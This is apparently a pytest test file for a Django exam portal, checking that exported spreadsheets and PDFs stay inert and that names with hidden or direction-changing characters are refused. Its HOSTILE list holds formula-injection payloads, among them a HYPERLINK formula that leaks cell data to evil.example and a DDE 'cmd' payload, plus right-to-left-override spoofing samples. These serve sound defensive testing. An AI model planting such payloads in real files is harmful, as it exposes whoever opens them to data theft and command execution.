"""What the portal writes for others to open: no live formula in any spreadsheet, no name
cut in the pass-list PDF, no hidden or direction-changing character in a stored name."""

import datetime
import io

import pytest
from django.core.exceptions import ValidationError
from django.test import TestCase
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell
from pypdf import PdfReader

from candidates.enums import ApplicationStatus
from candidates.forms import DeclarationForm
from candidates.models import Organisation
from candidates.validators import clean_name
from notices.models import PassList
from notices.services.publication import pass_list_publish
from notices.services.roster_import import HEADERS, roster_import_upload
from notices.services.rounds import results_export_render, results_export_request
from tests import factories
from tests.factories import make_credit_code
from tests.roster import validated

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def assert_inert(workbook_bytes: bytes, expected: set[str]) -> None:
    """Every hostile value is a text cell holding exactly what was declared; no formula."""
    sheet = load_workbook(io.BytesIO(workbook_bytes)).active
    found = set()
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"live formula in {cell.coordinate}: {cell.value!r}"
            if cell.value in expected:
                assert cell.data_type == "s" and cell.quotePrefix
                found.add(cell.value)
    assert found == expected


@pytest.fixture
def hostile_round():
    round_ = factories.RoundFactory(publication_at=timezone.now() - datetime.timedelta(minutes=1))
    for index, value in enumerate(HOSTILE):
        # The names come in through the database as the roster or an old form could have put them.
        factories.ApplicationFactory(
            roster_entry__round=round_,
            candidate__real_name=value,
            employer=Organisation.objects.create(name=f"{value}单位{index}", credit_code=make_credit_code()),
            status=ApplicationStatus.PASSED,
        )
    return round_


def test_the_public_pass_list_has_no_live_formula(hostile_round, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        pass_list = pass_list_publish(round_=hostile_round)
    pass_list.refresh_from_db()
    data = pass_list.xlsx.open("rb").read()
    assert_inert(data, set(HOSTILE) | {f"{v}单位{i}" for i, v in enumerate(HOSTILE)})


def test_the_province_export_has_no_live_formula(hostile_round):
    export = results_export_request(round_=hostile_round, user=factories.UserFactory(is_superuser=True))
    results_export_render(export=export)
    assert_inert(export.file.open("rb").read(), set(HOSTILE) | {f"{v}单位{i}" for i, v in enumerate(HOSTILE)})


def test_the_rejected_roster_rows_have_no_live_formula():
    exam = factories.ExamFactory()
    round_ = factories.RoundFactory(exams=[exam])
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(HEADERS)
    for value in HOSTILE:
        cell = WriteOnlyCell(sheet, value=value)
        cell.data_type = "s"  # a text cell in the bureau's file, as a spreadsheet keeps it
        sheet.append([cell, "430102199003071235", exam.name, 2026, round_.city.name, "1"])
    out = io.BytesIO()
    book.save(out)
    from django.core.files.uploadedfile import SimpleUploadedFile

    admin = factories.UserFactory(is_superuser=True)
    roster_import = roster_import_upload(
        round_=round_, user=admin, upload=SimpleUploadedFile("r.xlsx", out.getvalue())
    )
    result = validated(roster_import, admin)
    assert result.rejected_rows == len(HOSTILE)
    # Leading tabs and CRs are whitespace the import strips; what is left must still be inert.
    assert_inert(result.rejected_file.open("rb").read(), {v.strip() for v in HOSTILE})


def test_a_long_name_is_never_cut_in_the_pass_list_pdf(django_capture_on_commit_callbacks):
    round_ = factories.RoundFactory(publication_at=timezone.now() - datetime.timedelta(minutes=1))
    long_name = "阿卜杜热合曼·买买提依明·托乎提"  # 16 characters, 32 display units
    long_employer = "湖南省长沙市岳麓区某某建筑工程设计研究院有限责任公司第二分公司"
    factories.ApplicationFactory(
        roster_entry__round=round_,
        candidate__real_name=long_name,
        employer=Organisation.objects.create(name=long_employer, credit_code=make_credit_code()),
        status=ApplicationStatus.PASSED,
    )
    factories.ApplicationFactory(roster_entry__round=round_, candidate__real_name="王小明", status="passed")
    with django_capture_on_commit_callbacks(execute=True):
        pass_list = pass_list_publish(round_=round_)
    pass_list = PassList.objects.get(pk=pass_list.pk)
    text = "".join(
        page.extract_text() for page in PdfReader(io.BytesIO(pass_list.pdf.open("rb").read())).pages
    )
    squeezed = "".join(text.split())

    def in_order(needle: str, haystack: str) -> bool:
        """Every character of needle, in order (the wrapped pieces sit on successive lines)."""
        rest = iter(haystack)
        return all(ch in rest for ch in needle)

    assert in_order(long_name, squeezed) and in_order(long_employer, squeezed)
    assert "阿卜杜热合曼" in squeezed and "第二分公司" in squeezed  # the pieces, whole
    assert "王小明" in squeezed


@pytest.mark.parametrize(
    ("value", "code"),
    [
        ("王\u202e明小", 0x202E),  # right-to-left override
        ("王\u2066小明\u2069", 0x2066),  # isolates
        ("王\u200b小明", 0x200B),  # zero-width space
        ("王\u200d小明", 0x200D),  # zero-width joiner
        ("王\x07小明", 0x07),  # a control character
        ("王\ufeff小明", 0xFEFF),
    ],
)
def test_hidden_and_direction_characters_are_refused_in_names(value, code):
    with pytest.raises(ValidationError) as error:
        clean_name(value, label="姓名")
    assert f"U+{code:04X}" in error.value.messages[0]


def test_names_are_nfkc_normalised():
    assert clean_name("ＡＢＣ建筑　有限公司", label="单位") == "ABC建筑 有限公司"


def test_the_declaration_refuses_a_hidden_character_in_the_employer(client_for):
    application = factories.ApplicationFactory()
    client = client_for(application.candidate.user)
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post(
            reverse("candidates:declare", args=[application.pk]),
            {
                "application_kind": "normal",
                "employer_name": "长沙\u202e院计设",
                "employer_credit_code": make_credit_code(),
                "work-TOTAL_FORMS": "0",
                "work-INITIAL_FORMS": "0",
            },
        )
    assert response.status_code == 200
    assert "不可见字符或方向控制字符" in response.content.decode()
    form = DeclarationForm(data={"employer_name": "长沙\u200b院"})
    assert not form.is_valid() and "employer_name" in form.errors


def test_the_roster_import_refuses_a_hidden_character_in_a_name():
    exam = factories.ExamFactory()
    round_ = factories.RoundFactory(exams=[exam])
    from tests.notices.test_roster_import import xlsx

    upload = xlsx([["王\u202e小明", factories.make_id_number(), exam.name, 2026, round_.city.name, "1"]])
    admin = factories.UserFactory(is_superuser=True)
    result = validated(roster_import_upload(round_=round_, user=admin, upload=upload), admin)
    assert result.rejected_rows == 1 and result.valid_rows == 0
    sheet = load_workbook(io.BytesIO(result.rejected_file.open("rb").read())).active
    assert "U+202E" in next(iter(sheet.iter_rows(min_row=2, values_only=True)))[-1]
